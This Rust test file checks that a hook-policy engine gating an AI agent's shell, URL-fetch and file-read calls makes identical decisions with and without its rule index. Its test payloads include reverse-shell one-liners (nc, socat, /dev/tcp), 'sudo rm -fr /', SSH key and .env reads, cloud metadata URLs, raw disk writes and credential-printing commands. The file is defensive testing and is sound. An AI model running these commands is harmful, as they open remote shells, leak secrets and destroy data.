//! The decision tree's indexes may only leave out rules that cannot match:
//! every decision must be the same as evaluating every rule of the hook.
//! Checked on a generated policy that exercises every index (literal
//! values, required substrings, shell programs, URL hosts, path globs) and
//! on the shipped policies, with payloads that hit, miss, and break them
//! (absent fields, fields of the wrong type).

use hook_policy::compile::{compile, CompiledPolicy, HookPlan};
use hook_policy::diagnostic::SourceFile;
use hook_policy::eval::{decide, DecideContext, Decision};
use serde_json::{json, Value};
use std::path::PathBuf;
use std::sync::Arc;

#[path = "../examples/gen_policy.rs"]
#[allow(dead_code)]
mod gen_policy;

const CTX: DecideContext<'static> = DecideContext {
    harness: "chibi",
    project_root: "/home/user/demo",
    home: Some("/home/user"),
};

fn load(sources: Vec<(PathBuf, String)>) -> hook_policy::load::PolicySet {
    let sources = sources
        .into_iter()
        .map(|(p, t)| Arc::new(SourceFile::new(p, t)))
        .collect();
    let (set, diags) = hook_policy::load::load_sources(sources);
    assert!(!diags.iter().any(|d| d.is_error()));
    set
}

/// The same policy with every rule of `hook` evaluated for every payload.
fn without_index(policy: &mut CompiledPolicy, hook: &'static str) {
    let always: Vec<usize> = (0..policy.rules.len())
        .filter(|&i| policy.rules[i].hooks.contains(&hook))
        .collect();
    let plan = HookPlan {
        rule_count: always.len(),
        always,
        ..HookPlan::default()
    };
    policy.plans.insert(hook, plan);
}

/// What a user can observe of a decision.
fn observable(d: &Decision) -> Value {
    json!({
        "deny": d.deny.as_ref().map(|w| (&w.value, &w.rule)),
        "also_denied": d.also_denied,
        "block": d.block.as_ref().map(|w| (&w.value, &w.rule)),
        "arguments": d.arguments.iter().map(|(k, w)| (k, &w.value, &w.rule)).collect::<Vec<_>>(),
        "include": d.include,
        "exclude": d.exclude,
        "fuel_delta": d.fuel_delta,
        "fuel": d.fuel.as_ref().map(|w| (w.value, &w.rule)),
        "request": d.request.iter().map(|(k, w)| (k, &w.value, &w.rule)).collect::<Vec<_>>(),
        "matched": d.matched,
        "errors": d.errors,
    })
}

fn assert_same(set: &hook_policy::load::PolicySet, cases: &[(&'static str, Value)]) -> usize {
    let mut matched = 0;
    for (hook, payload) in cases {
        let (indexed, _) = compile(set, Some(hook));
        let (mut flat, _) = compile(set, Some(hook));
        without_index(&mut flat, hook);
        let a = decide(&indexed, hook, payload, CTX);
        let b = decide(&flat, hook, payload, CTX);
        assert_eq!(observable(&a), observable(&b), "{hook} {payload}");
        assert!(a.candidates <= b.candidates);
        matched += a.matched.len() + a.errors.len();
    }
    matched
}

#[test]
fn indexes_never_change_a_generated_policys_decisions() {
    let set = load(vec![("gen.yaml".into(), gen_policy::generate(200))]);
    let cases: Vec<(&'static str, Value)> = vec![
        (
            "pre_tool",
            json!({"tool_name": "tool_20", "arguments": {"force": true}}),
        ),
        ("pre_tool", json!({"tool_name": "tool_21", "arguments": {}})),
        ("pre_tool", json!({"arguments": {"force": true}})),
        (
            "pre_tool",
            json!({"tool_name": 20, "arguments": {"force": true}}),
        ),
        (
            "pre_api_tools",
            json!({"context_name": "ctx_13", "tools": [{"name": "tool_13", "type": "x"}, {"name": "ls", "type": "shell"}]}),
        ),
        ("pre_api_tools", json!({"tools": []})),
        (
            "pre_shell_exec",
            json!({"tool_name": "shell_exec", "command": "echo; danger_14 now"}),
        ),
        (
            "pre_shell_exec",
            json!({"tool_name": "shell_exec", "command": "sudo prog_15 --force x && danger_24 y"}),
        ),
        (
            "pre_shell_exec",
            json!({"tool_name": "shell_exec", "command": "bash -c 'prog_25 -rf /'"}),
        ),
        (
            "pre_shell_exec",
            json!({"tool_name": "shell_exec", "command": "prog_35 x"}),
        ),
        ("pre_shell_exec", json!({"tool_name": "shell_exec"})),
        (
            "pre_shell_exec",
            json!({"tool_name": "shell_exec", "command": 7}),
        ),
        (
            "pre_file_read",
            json!({"tool_name": "file_head", "path": "/secret/16/key"}),
        ),
        (
            "pre_file_read",
            json!({"tool_name": "file_head", "path": "/secret/16/../26/key"}),
        ),
        (
            "pre_file_read",
            json!({"tool_name": "file_head", "path": "/secret/17/key"}),
        ),
        ("pre_file_read", json!({"tool_name": "file_head"})),
        (
            "pre_fetch_url",
            json!({"tool_name": "fetch_url", "url": "https://a.b.INTERNAL-17.example./api/v18/x"}),
        ),
        (
            "pre_fetch_url",
            json!({"tool_name": "fetch_url", "url": "https://internal-27.example/"}),
        ),
        (
            "pre_fetch_url",
            json!({"tool_name": "fetch_url", "url": "https://evil-internal-27.example/api/v28/"}),
        ),
        ("pre_fetch_url", json!({"tool_name": "fetch_url"})),
        (
            "pre_fetch_url",
            json!({"tool_name": "fetch_url", "url": ["x"]}),
        ),
        (
            "pre_api_request",
            json!({"context_name": "ctx_19", "request_body": {}}),
        ),
    ];
    let matched = assert_same(&set, &cases);
    // The cases must really exercise matching rules, not only misses.
    assert!(matched >= 12, "only {matched} rules matched or failed");
}

#[test]
fn indexes_never_change_the_shipped_policies_decisions() {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("policies");
    let mut sources = Vec::new();
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if name.ends_with(".yaml") && !name.ends_with(".test.yaml") {
            let text = std::fs::read_to_string(&path).unwrap();
            sources.push((path, text));
        }
    }
    sources.sort();
    let set = load(sources);
    let fixtures = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/fixtures/chibi");
    let mut cases: Vec<(&'static str, Value)> = Vec::new();
    for entry in std::fs::read_dir(&fixtures).unwrap() {
        let capture: Value =
            serde_json::from_str(&std::fs::read_to_string(entry.unwrap().path()).unwrap()).unwrap();
        let Some(hook) = hook_policy::catalogue::hook(capture["hook"].as_str().unwrap()) else {
            continue;
        };
        cases.push((hook.name, capture["payload"].clone()));
    }
    for command in [
        "sudo rm -fr /",
        "curl http://169.254.169.254/",
        "cat ~/.ssh/id_rsa",
        "ls",
        // Rules indexed by what their conditions need (a program among
        // the analysed commands, one of several substrings).
        "sudo bash",
        "doas sh -c 'id'",
        "nc -e /bin/sh 10.0.0.1 4444",
        "socat tcp:10.0.0.1:4444 exec:sh",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "echo 1 > /dev/sda",
        "tee /dev/nvme0n1 < image",
        "echo b > /proc/sysrq-trigger",
        "cargo test --all 2>&1 | tail -20",
        "cp .env /tmp/x && cat /tmp/x",
        // Rules filed under an argument to any program (`npx cdk destroy`
        // as well as `cdk destroy`), and lines that reach none of them.
        "npm run build",
        "npx cdk destroy",
        "pnpm exec sst remove --stage prod",
        "npx prisma migrate reset --force",
        "python manage.py flush --noinput",
        "npx wrangler delete",
        "npm config get //registry.npmjs.org/:_authToken",
        "git credential fill",
    ] {
        cases.push((
            "pre_shell_exec",
            json!({"tool_name": "shell_exec", "command": command}),
        ));
    }
    for url in [
        "http://2130706433/",
        "https://example.com/",
        "http://metadata.google.internal/",
        // The urls pack's DNS-trick names, written `.name` under `host:`,
        // are filed as domains: the names, their subdomains, other spellings.
        "http://lvh.me:8080/",
        "http://a.b.LVH.ME./x",
        "http://127.0.0.1.nip.io/",
        "http://notlvh.me/",
        "http://lvh.me.evil.com/",
        "https://docs.rs/serde/latest/serde/",
    ] {
        cases.push((
            "pre_fetch_url",
            json!({"tool_name": "fetch_url", "url": url}),
        ));
    }
    for path in [
        "/home/user/demo/.env",
        "/home/user/demo/src/main.rs",
        "/etc/passwd",
    ] {
        cases.push((
            "pre_file_read",
            json!({"tool_name": "file_head", "path": path}),
        ));
    }
    // A shell line that is absent or not a string: every rule whose
    // condition reads it fails, indexed or not.
    cases.push(("pre_shell_exec", json!({"tool_name": "shell_exec"})));
    cases.push((
        "pre_shell_exec",
        json!({"tool_name": "shell_exec", "command": ["sudo", "bash"]}),
    ));
    assert!(cases.len() > 20);
    let matched = assert_same(&set, &cases);
    assert!(matched >= 5, "only {matched} rules matched or failed");
}

/// A public URL leaves out the rule of the urls pack's DNS-trick names
/// (`host: [.lvh.me, .nip.io, ...]`): it is filed under those domains, so
/// neither a warm decision nor a cold call compiles or tests it.
#[test]
fn host_lists_of_dot_names_are_filed_as_domains() {
    let enable = "version: 1\npacks:\n  enable: [urls]\n";
    let set = load(vec![("p.yaml".into(), enable.to_string())]);
    let (policy, _) = compile(&set, Some("pre_fetch_url"));
    let rules = policy.plan("pre_fetch_url").unwrap().rule_count;
    let decide_url = |url: &str| {
        decide(
            &policy,
            "pre_fetch_url",
            &json!({"tool_name": "fetch_url", "url": url}),
            CTX,
        )
    };
    let public = decide_url("https://docs.rs/serde/");
    assert!(public.deny.is_none());
    assert_eq!(public.candidates, rules - 1, "{public:?}");
    for url in [
        "http://x.nip.io/",
        "http://LVH.me./",
        "http://a.b.sslip.io:80/",
    ] {
        let d = decide_url(url);
        assert_eq!(d.candidates, rules, "{url}");
        assert_eq!(
            d.deny.as_ref().map(|w| w.rule.as_str()),
            Some("urls.loopback-names"),
            "{url}"
        );
    }
}

#[path = "corpus_support/mod.rs"]
mod corpus_support;

/// Every pack loaded as a policy file, every rule of them enabled.
fn every_pack() -> hook_policy::load::PolicySet {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("packs");
    let mut sources = Vec::new();
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if name.ends_with(".yaml") && !name.ends_with(".test.yaml") {
            let text = std::fs::read_to_string(&path).unwrap();
            sources.push((path, text));
        }
    }
    sources.sort();
    load(sources)
}

/// The chibi payloads of every pack test case, by hook.
fn pack_test_payloads() -> Vec<(&'static str, Value)> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("packs");
    let mut out = Vec::new();
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        if !path.to_string_lossy().ends_with(".test.yaml") {
            continue;
        }
        let file: Value = serde_saphyr::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
        for case in file["tests"].as_array().unwrap() {
            let hook = case["hook"].as_str().and_then(hook_policy::catalogue::hook);
            if let (Some(hook), Some(payload), None) =
                (hook, case.get("payload"), case.get("harness"))
            {
                out.push((hook.name, payload.clone()));
            }
        }
    }
    out
}

/// The command lines of the shell corpora: benign, dangerous, and the
/// analysis corpus (odd quoting, substitutions, lines that cannot be known).
fn corpus_lines() -> Vec<String> {
    let mut lines = Vec::new();
    for (name, columns, field) in [
        ("benign.tsv", 2, 1),
        ("dangerous.tsv", 3, 2),
        ("shell.tsv", 4, 3),
    ] {
        for case in corpus_support::read(name, columns) {
            lines.push(case.field(field).to_string());
        }
    }
    lines
}

/// Every pack's rules decide the pack tests' payloads and every line of the
/// shell corpora alike three ways: with every rule of the hook a candidate,
/// through the decision tree built at compile time, and through its stored
/// tables as a cold call reads them (which must give exactly the same
/// candidates as the tree). The index keys rules by program, by program and
/// a word of its arguments, by program and "has an operand" (see
/// src/compile/index.rs): this is where a key that leaves out a rule that
/// could match would show.
#[test]
fn indexes_never_change_every_packs_decisions_on_the_corpora_and_pack_tests() {
    let set = Arc::new(every_pack());
    let mut cases = pack_test_payloads();
    let from_tests = cases.len();
    assert!(from_tests > 500, "only {from_tests} pack test payloads");
    for line in corpus_lines() {
        cases.push((
            "pre_shell_exec",
            json!({"tool_name": "shell_exec", "command": line}),
        ));
    }
    assert!(cases.len() > from_tests + 1500);
    let mut hooks: Vec<&'static str> = cases.iter().map(|(h, _)| *h).collect();
    hooks.sort();
    hooks.dedup();
    let (mut matched, mut left_out) = (0, 0);
    for hook in hooks {
        let (indexed, diags) = compile(&set, Some(hook));
        assert!(!diags.iter().any(|d| d.is_error()));
        let (mut flat, _) = compile(&set, Some(hook));
        without_index(&mut flat, hook);
        let entry = hook_policy::cache::encode("k", hook, &set, &indexed);
        let no_yaml: hook_policy::cache::Fallback =
            Box::new(|| panic!("an undamaged entry fell back to the YAML"));
        let stored = hook_policy::cache::decode(entry, "k", hook, no_yaml).expect("entry reads");
        for (_, payload) in cases.iter().filter(|(h, _)| *h == hook) {
            let all = decide(&flat, hook, payload, CTX);
            let tree = decide(&indexed, hook, payload, CTX);
            let cold = decide(&stored, hook, payload, CTX);
            assert_eq!(observable(&all), observable(&tree), "{hook} {payload}");
            assert_eq!(
                observable(&all),
                observable(&cold),
                "{hook} {payload} (stored)"
            );
            assert_eq!(tree.candidates, cold.candidates, "{hook} {payload}");
            matched += all.matched.len() + all.errors.len();
            left_out += all.candidates - tree.candidates;
        }
    }
    // The cases exercise matches and the index leaves rules out.
    assert!(matched > 1000, "only {matched} rules matched or failed");
    assert!(
        left_out > 10_000,
        "the index left out only {left_out} rules"
    );
}

/// `npm run build` with the recommended packs: the rules that look at npm
/// only for a word of their own (`npx cdk destroy`, `npx prisma migrate
/// reset`, `npm config get`) are filed under those words, so the line has
/// no candidate rule at all; their own lines still are candidates, and denied.
#[test]
fn npm_run_build_reaches_no_rule_of_the_recommended_packs() {
    let enable = "version: 1\npacks:\n  enable: [recommended]\n";
    let set = load(vec![("p.yaml".into(), enable.to_string())]);
    let (policy, _) = compile(&set, Some("pre_shell_exec"));
    let decide_line = |line: &str| {
        decide(
            &policy,
            "pre_shell_exec",
            &json!({"tool_name": "shell_exec", "command": line}),
            CTX,
        )
    };
    let build = decide_line("npm run build");
    assert!(build.deny.is_none());
    assert_eq!(build.candidates, 0, "{:?}", build.trace);
    for (line, rule) in [
        ("npx cdk destroy", "cloud.iac-destroy"),
        ("npx netlify sites:delete x", "cloud.paas-delete"),
        ("npx prisma migrate reset", "databases.framework-reset"),
        (
            "npm config get //registry.npmjs.org/:_authToken",
            "secrets.print-credential-dev-tools",
        ),
    ] {
        let d = decide_line(line);
        assert_eq!(
            d.deny.as_ref().map(|w| w.rule.as_str()),
            Some(rule),
            "{line}: {:?}",
            d.trace
        );
    }
}
